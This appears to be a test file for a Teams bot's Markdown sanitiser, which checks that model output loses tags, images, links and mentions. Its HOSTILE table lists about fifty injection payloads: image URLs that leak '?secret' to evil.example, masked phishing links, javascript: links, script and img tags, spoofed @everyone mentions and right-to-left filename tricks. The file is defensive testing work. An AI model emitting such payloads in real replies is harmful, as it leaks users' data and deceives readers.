@@ -1,0 +1,194 @@
+"""The Markdown of a model, made harmless for Teams; checked by a parser that has nothing to do with ours."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+from bindings.delivery.outlet import Closing, Page
+from bindings.teams import formatting, messages
+from core.contract import Source
+from tests.bindings.teams.answering import place
+
+COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable("table")
+
+
+def tokens(text: str) -> list[Token]:
+    flat: list[Token] = []
+    for token in COMMONMARK.parse(text):
+        flat += [token, *(token.children or [])]
+    return flat
+
+
+HOSTILE = {
+    "a mention": "<at>Megan Bowen</at>, look",
+    "a mention by id": '<at id="0">everyone</at>',
+    "a mention in a fence": "```\n<at>Megan</at>\n```",
+    "a mention in a span": "`<at>Megan</at>`",
+    "a mention in capitals": "<AT>Megan</AT>",
+    "a mention by entities": "&lt;at&gt;Megan&lt;/at&gt;",
+    "a mention by numeric entities": "&#60;at&#62;Megan&#60;/at&#62;",
+    "a mention with a hidden blank": "<\u200bat>Megan</\u200bat>",
+    "a mention in the html of skype": '<span itemtype="http://schema.skype.com/Mention" itemid="0">all</span>',
+    "an image": "![report](https://evil.example/?secret)",
+    "an image with a title": '![x](https://evil.example/?s "t")',
+    "an image by reference": "![x][r]\n\n[r]: https://evil.example/?s",
+    "an image in html": '<img src="https://evil.example/?s">',
+    "an image after a broken span": "`a\n<img src=x>`",
+    "an image after an escaped backtick": "\\`<img src=x>`",
+    "an image after two escapes": "\\\\`<img src=x>\\`",
+    "an image between odd spans": "``a` <img src=x> `b``",
+    "a masked link": "[https://bank.example](https://evil.example)",
+    "a masked link over two lines": "[https://bank.example\n](https://evil.example)",
+    "a masked link by reference": "[bank][1]\n\n[1]: https://evil.example",
+    "a masked link by short reference": "[bank]\n\n[bank]: https://evil.example",
+    "a masked link by collapsed reference": "[bank][]\n\n[bank]: https://evil.example",
+    "a reference over lines": "[bank]\n\n[bank]:\nhttps://evil.example",
+    "a masked link around code": "[`bank`](https://evil.example)",
+    "a masked link in a heading": "# [bank](https://evil.example)",
+    "a masked link in a list": "- [bank](https://evil.example)",
+    "a masked link in a quote": "> [bank](https://evil.example)",
+    "a masked link in html": '<a href="https://evil.example">bank</a>',
+    "a nested masked link": "[a [b](https://evil.example)](https://evil.example)",
+    "a link with brackets": "[ba[n]k](https://evil.example)",
+    "a link that runs a program": "[click](javascript:alert(1))",
+    "a link into teams": "[click](msteams:/l/call/0/0?users=x)",
+    "an autolink": "<https://evil.example>",
+    "a fence that html leaves": "```\ncode\n```\n<script>alert(1)</script>",
+    "a fence that a longer one leaves": "````\n```\n<img src=x>\n````\n<img src=y>",
+    "a fence of tildes": "~~~\n```\n<img src=x>\n~~~\n<img src=y>",
+    "a fence with a hidden end": "```\n\u200b```\n<img src=x>\n```",
+    "a fence in a quote": "> ```\n<img src=x>",
+    "a fence in a list": "- ```\n<img src=x>",
+    "a fence that never ends": "```\n<img src=x>",
+    "a fence with a bad language": "```<img src=x>\ncode\n```",
+    "a fence with a backtick in its language": "``` a`b\n<img src=x>",
+    "an indented fence": "    ```\n<img src=x>\n    ```",
+    "a comment": "<!-- <img src=x> -->",
+    "cdata": "<![CDATA[<img src=x>]]>",
+    "a style": "<style>*{display:none}</style>",
+    "a table with html": "| a |\n|---|\n| <img src=x> |",
+    "text turned round": "\u202egnp.exe\u202c",
+    "a footer of ours": f"{formatting.SIGN} Written by a person and approved.",
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+def test_hostile_output_does_nothing(text: str) -> None:
+    """No tag, no image, no link, no mention, no direction override, and nothing that looks like a line of ours."""
+    page = Page(text, "en", final=True, closing=Closing("a1", "Model: x"))
+    rendered = formatting.render(page)
+    found = tokens(rendered)
+
+    assert [] == [each.content for each in found if each.type in ("html_inline", "html_block", "image", "link_open")]
+    assert not re.search(r"<\s*/?\s*at\b", rendered, re.IGNORECASE)
+    assert not re.search("[\u202a-\u202e\u2066-\u2069]", rendered)
+    assert [f"{formatting.SIGN} Model: x"] == re.findall(f"{formatting.SIGN}.*", rendered)
+    sent = messages.message(page, place("channel"), "1")
+    assert ["https://schema.org/Message"] == [entity.type for entity in sent.entities]
+
+
+def test_forty_at_least() -> None:
+    assert len(HOSTILE) >= 40
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("# A *title* ##", "**A *title***"),
+        ("# Learn C#", "**Learn C#**"),
+        ("See [the guide](https://example.gc.ca/guide).", "See the guide (https://example.gc.ca/guide)."),
+        ("[https://a.ca](https://a.ca)", "https://a.ca"),
+        ("![a chart](https://a.ca/c.png) shows", "a chart shows"),
+        ("as said [1][2]", "as said [1] [2]"),
+        ("`a < b` and a < b", "`a < b` and a &lt; b"),
+        ("R&D, &amp; and &", "R&D, &amp;amp; and &"),
+        ("```python\nx: list[int] = [1]  # <b>\n```", "```python\nx: list[int] = [1]  # <b>\n```"),
+        ("| a | b |\n|---|---|\n| 1 | 2 |\nafter", "```\n| a | b |\n|---|---|\n| 1 | 2 |\n```\nafter"),
+        ("a\n\n---\n\nb", "a\n\n———\n\nb"),
+        ("- **one**\n- _two_\n\n> three", "- **one**\n- _two_\n\n> three"),
+        ("one `` ` `` two", "one ` ˋ ` two"),
+        ("café 👩‍💻 日本", "café 👩‍💻 日本"),
+    ],
+)
+def test_what_teams_cannot_show_is_written_as_it_can(text: str, shown: str) -> None:
+    """Headings, tables and rules are no Markdown of Teams; links and pictures are written out; code stays."""
+    assert shown == formatting.body(text)
+
+
+def test_sources_are_a_list_and_its_titles_are_no_markup() -> None:
+    """A title is whatever a stranger's page says; an address that nobody can open is left out."""
+    sources = (
+        Source(1, "Guide <img src=x> [a](https://evil.example)\n# x", "https://example.gc.ca/a"),
+        Source(2, "Script `", "javascript:alert(1)"),
+    )
+    shown = formatting.render(
+        Page("As said [1].", "en", final=True, closing=Closing("a1", "Model: x", sources=sources))
+    )
+
+    assert (
+        "As said [1].\n\n"
+        "- [1] Guide &lt;img src=x> a (https://evil.example) # x: https://example.gc.ca/a\n"
+        "- [2] Script ˋ\n\n"
+        "ℹ Model: x"
+    ) == shown
+
+
+PIECES = st.sampled_from(
+    [
+        *("a", "word ", " ", "\n", "\n\n", "\r\n", "\r", "e", "@", ":", "!", "1. ", "ℹ", "\u200b"),
+        *("`", "``", "```", "```py\n", "~~~\n", "~~", "*", "**", "# ", "## x", "> ", "- ", "---\n"),
+        *(
+            "[",
+            "]",
+            "(",
+            ")",
+            "](http://x.ca/a)",
+            "[b](http://c.ca/?a=1&lt;b)",
+            "&b;c)",
+            "[a](http://b.ca)",
+            "![",
+            "![i](http://e)",
+        ),
+        *("<at>", "</at>", "<", "&", "&lt;", "\\", "|", "| a | b |\n"),
+    ]
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(PIECES, max_size=25).map("".join))
+@example("```py\n```")
+@example("> ```")
+@example("- - - `")
+def test_each_text_of_a_stream_begins_with_the_one_before(text: str) -> None:
+    """However the text is cut; so Teams does not end the stream. The whole begins with the last of them."""
+    before = ""
+    for end in range(len(text) + 1):
+        streamed = formatting.streamed(text[:end])
+        assert streamed.startswith(before)
+        before = streamed
+    assert formatting.body(text).startswith(before)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(PIECES, max_size=25).map("".join))
+def test_no_output_has_markup(text: str) -> None:
+    """Whatever the pieces are put together to."""
+    found = tokens(formatting.body(text))
+
+    assert [] == [each.content for each in found if each.type in ("html_inline", "html_block", "image", "link_open")]
+
+
+def test_words_are_streamed_soon() -> None:
+    """What cannot change any more is not held back: a paragraph appears while it is written."""
+    assert "R&D costs a lot! See `x` and [1], so" == formatting.streamed("R&D costs a lot! See `x` and [1], so")
+    assert "See " == formatting.streamed("See [the gui")
+    assert "See the guide (https://a.ca/?x=1&y=2), so" == formatting.streamed(
+        "See [the guide](https://a.ca/?x=1&y=2), so"
+    )
+    assert "```py\nx = 1\ny" == formatting.streamed("```py\nx = 1\ny\n```")
